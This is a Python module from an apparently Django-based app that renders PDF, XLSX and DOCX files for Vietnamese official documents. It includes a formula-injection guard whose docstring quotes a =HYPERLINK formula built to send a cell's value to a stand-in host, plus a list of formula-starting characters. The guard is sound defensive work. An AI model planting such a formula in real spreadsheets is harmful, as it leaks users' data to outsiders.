"""Turn plain data into file bytes: PDF with Typst, XLSX with openpyxl, DOCX with python-docx.

Renderers are pure: the same data gives the same bytes. The only moving part of a file is
its creation date, which the pipeline fixes to the moment the user asked for the document
(:func:`document_timestamp`), so running a job again writes an identical file.
"""

import io
import json
import threading
import zipfile
from collections.abc import Callable, Iterable, Sequence
from contextlib import contextmanager
from contextvars import ContextVar
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import typst
from django.conf import settings
from django.core.serializers.json import DjangoJSONEncoder
from django.utils import timezone
from django.utils.translation import gettext as _

from documents.fonts import check_printable, font_dir, font_files
from documents.registry import RenderError
from documents.vietnamese import nfc_data

_timestamp: ContextVar[datetime | None] = ContextVar("document_timestamp", default=None)


@contextmanager
def document_timestamp(when: datetime):
    """Files rendered inside this block carry ``when`` as their creation date."""
    token = _timestamp.set(when)
    try:
        yield
    finally:
        _timestamp.reset(token)


def _now() -> datetime:
    when = _timestamp.get() or timezone.now()
    return when.astimezone(UTC).replace(microsecond=0)


# --------------------------------------------------------------------------- PDF (Typst)


def template_dir() -> Path:
    return Path(settings.DOCUMENTS_TEMPLATE_DIR)


_compilers = threading.local()


def _compiler() -> typst.Compiler:
    """One compiler per thread: it loads the fonts once (about 10 ms) for every later job."""
    key = (str(template_dir()), str(font_dir()), tuple(settings.DOCUMENTS_FONT_FILES))
    cached = getattr(_compilers, "value", None)
    if cached is None or cached[0] != key:
        font_files()
        # Only the fonts folder: no system fonts (an old Liberation 1.07 without Vietnamese
        # has the same family name) and none of Typst's embedded fonts.
        fonts = typst.Fonts(
            include_system_fonts=False, include_embedded_fonts=False, font_paths=[str(font_dir())]
        )
        compiler = typst.Compiler(
            root=str(template_dir()), font_paths=fonts, ignore_system_fonts=True
        )
        _compilers.value = cached = (key, compiler)
    return cached[1]


def typst_pdf(template: str, data: dict) -> bytes:
    """Compile ``templates/documents/<template>`` with ``data`` as its input.

    The template reads the data with ``#let data = json(bytes(sys.inputs.data))`` and may
    import the shared components with ``#import "/common/header.typ": *``. Text is
    NFC-normalised; a character the fonts lack, a missing font or a template error raise
    RenderError, so no PDF with empty boxes or a fallback font is ever produced.
    """
    path = template_dir() / template
    if not path.is_file():
        raise RenderError(
            _("Không tìm thấy mẫu văn bản %(template)s. Báo quản trị viên.")
            % {"template": template}
        )
    data = nfc_data(data)
    check_printable(data)
    font_files()
    payload = json.dumps(data, cls=DjangoJSONEncoder, ensure_ascii=False)
    try:
        # The input is passed on every call: typst-py's Compiler fails on a second compile()
        # that relies on the input given at construction.
        pdf, warnings = _compiler().compile_with_warnings(
            input=str(path),
            format="pdf",
            sys_inputs={"data": payload},
            timestamp=_now(),
            # Untagged: tags made a 5,000-row list 16 times larger (4.3 MB against 260 KB)
            # and 50 % slower, for files that are printed and signed.
            pdf_tags=False,
        )
    except typst.TypstError as exc:
        raise RenderError(
            _("Mẫu văn bản %(template)s có lỗi: %(message)s. Báo quản trị viên.")
            % {"template": template, "message": exc.message}
        ) from exc
    for warning in warnings:
        if "font" in warning.message or "glyph" in warning.message:
            raise RenderError(
                _("Mẫu văn bản %(template)s dùng phông chữ không có: %(message)s.")
                % {"template": template, "message": warning.message}
            )
    return pdf


# --------------------------------------------------------------------------- ZIP-based formats


def _fixed_zip(content: bytes) -> bytes:
    """Rewrite an OOXML package with fixed entry dates, so equal content gives equal bytes."""
    stamp = _now().timetuple()[:6]
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            info = zipfile.ZipInfo(item.filename, date_time=stamp)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = item.external_attr
            target.writestr(info, source.read(item.filename))
    return out.getvalue()


# --------------------------------------------------------------------------- XLSX


@dataclass
class Sheet:
    """One worksheet: heading lines, a header row, and the rows (any iterable: a generator
    keeps a long list out of memory, as the workbook is written in write-only mode)."""

    rows: Iterable[Sequence]
    headers: Sequence[str] = ()
    title: str = "Danh sách"
    heading: Sequence[str] = ()
    widths: Sequence[float] = ()
    footer: Sequence[Sequence] = field(default_factory=list)


# Text that Excel, LibreOffice or a CSV import would read as a formula if it began a cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(cell):
    """The cell, written as text (never a formula) when its text begins like one.

    openpyxl turns a string starting with "=" into a live formula: a scheme named
    =HYPERLINK("http://x/?leak="&A1, …) would run in the reader's Excel. quotePrefix also keeps
    Excel from reading the text as a formula when someone edits the cell."""
    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx(
    rows: Iterable[Sequence] | None = None,
    *,
    headers: Sequence[str] = (),
    title: str = "Danh sách",
    heading: Sequence[str] = (),
    widths: Sequence[float] = (),
    footer: Sequence[Sequence] = (),
    sheets: Sequence[Sheet] = (),
    progress: Callable[[int], None] | None = None,
) -> bytes:
    """An Excel workbook from rows: ``xlsx(rows, headers=[...])`` for one sheet, or
    ``xlsx(sheets=[Sheet(...), ...])``. ``progress(n)`` is called every 500 rows."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font

    if rows is not None:
        sheets = [Sheet(rows, headers, title, heading, widths, list(footer)), *sheets]
    workbook = Workbook(write_only=True)
    workbook.properties.creator = "ngayhoi"
    workbook.properties.created = workbook.properties.modified = _now().replace(tzinfo=None)
    bold = Font(name="Times New Roman", bold=True)
    plain = Font(name="Times New Roman")
    centred = Alignment(horizontal="center", vertical="center", wrap_text=True)

    def styled(worksheet, value, font, alignment=None):
        cell = WriteOnlyCell(worksheet, value=value)
        cell.font = font
        if alignment is not None:
            cell.alignment = alignment
        return as_text(cell)

    written = 0
    for sheet in sheets:
        worksheet = workbook.create_sheet(_sheet_title(sheet.title))
        for index, width in enumerate(sheet.widths):
            worksheet.column_dimensions[_column_letter(index)].width = width
        for line in sheet.heading:
            worksheet.append([styled(worksheet, nfc_data(line), bold)])
        if sheet.heading:
            worksheet.append([])
        if sheet.headers:
            worksheet.append([styled(worksheet, nfc_data(h), bold, centred) for h in sheet.headers])
        for row in sheet.rows:
            worksheet.append([styled(worksheet, nfc_data(value), plain) for value in row])
            written += 1
            if progress is not None and written % 500 == 0:
                progress(written)
        for row in sheet.footer:
            worksheet.append([styled(worksheet, nfc_data(value), bold) for value in row])
    out = io.BytesIO()
    workbook.save(out)
    return _fixed_zip(out.getvalue())


def _sheet_title(title: str) -> str:
    # Excel refuses these characters and titles longer than 31 characters.
    cleaned = "".join(" " if ch in "[]:*?/\\" else ch for ch in nfc_data(title))
    return cleaned[:31] or "Sheet"


def _column_letter(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index + 1)


# --------------------------------------------------------------------------- DOCX


def docx(build: Callable, *, template: str | None = None) -> bytes:
    """A Word document: ``build(document)`` adds the content to a python-docx Document set up
    for Decree 30 (A4, margins, Times New Roman 13 pt). ``template`` is an optional .docx under
    templates/documents/ to start from. :func:`docx_national_header` adds the header block.
    """
    from docx import Document
    from docx.oxml.ns import qn
    from docx.shared import Mm, Pt

    document = Document(str(template_dir() / template) if template else None)
    for section in document.sections:
        section.page_width, section.page_height = Mm(210), Mm(297)
        section.top_margin = section.bottom_margin = Mm(20)
        section.left_margin, section.right_margin = Mm(30), Mm(15)
    style = document.styles["Normal"]
    # Officials edit these in Word, which has Times New Roman; Liberation Serif matches it.
    style.font.name = "Times New Roman"
    style.font.size = Pt(13)
    style.element.rPr.rFonts.set(qn("w:eastAsia"), "Times New Roman")
    build(document)
    properties = document.core_properties
    properties.author = properties.last_modified_by = "ngayhoi"
    properties.created = properties.modified = _now().replace(tzinfo=None)
    properties.revision = 1
    out = io.BytesIO()
    document.save(out)
    return _fixed_zip(out.getvalue())


def docx_national_header(
    document,
    *,
    authority: str,
    sub_authority: str = "",
    number: str = "",
    place: str = "",
    date: str = "",
) -> None:
    """The Decree 30 header block as a borderless two-column table."""
    from docx.enum.text import WD_ALIGN_PARAGRAPH
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn
    from docx.shared import Mm, Pt

    table = document.add_table(rows=2, cols=2)
    table.autofit = False
    left, right = table.rows[0].cells
    number_cell, date_cell = table.rows[1].cells
    for cell, width in ((left, 65), (right, 100), (number_cell, 65), (date_cell, 100)):
        cell.width = Mm(width)

    def line(cell, text, *, bold=False, italic=False, size=13, first=False):
        paragraph = cell.paragraphs[0] if first else cell.add_paragraph()
        paragraph.alignment = WD_ALIGN_PARAGRAPH.CENTER
        paragraph.paragraph_format.space_after = Pt(0)
        run = paragraph.add_run(nfc_data(text))
        run.bold, run.italic, run.font.size = bold, italic, Pt(size)

    def rule(cell, cell_mm: float, length_mm: float):
        """The short line under the authority and under the motto: the bottom border of an
        empty paragraph, indented so the border is ``length_mm`` long, centred."""
        paragraph = cell.add_paragraph()
        paragraph.paragraph_format.space_after = Pt(0)
        paragraph.paragraph_format.left_indent = Mm((cell_mm - length_mm) / 2)
        paragraph.paragraph_format.right_indent = Mm((cell_mm - length_mm) / 2)
        paragraph.add_run("").font.size = Pt(2)
        borders = OxmlElement("w:pBdr")
        bottom = OxmlElement("w:bottom")
        for name, value in (("val", "single"), ("sz", "6"), ("space", "1"), ("color", "000000")):
            bottom.set(qn(f"w:{name}"), value)
        borders.append(bottom)
        paragraph._p.get_or_add_pPr().append(borders)

    if sub_authority:
        line(left, sub_authority.upper(), size=13, first=True)
    line(left, authority.upper(), bold=True, first=not sub_authority)
    rule(left, 65, 22)
    line(right, "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", bold=True, size=12, first=True)
    line(right, "Độc lập - Tự do - Hạnh phúc", bold=True, size=13)
    # As long as the motto (13 pt bold Times: some 62 mm).
    rule(right, 100, 62)
    line(number_cell, f"Số: {number}" if number else "", first=True)
    when = date or "ngày ... tháng ... năm ..."
    line(date_cell, f"{place}, {when}" if place else when, italic=True, first=True)
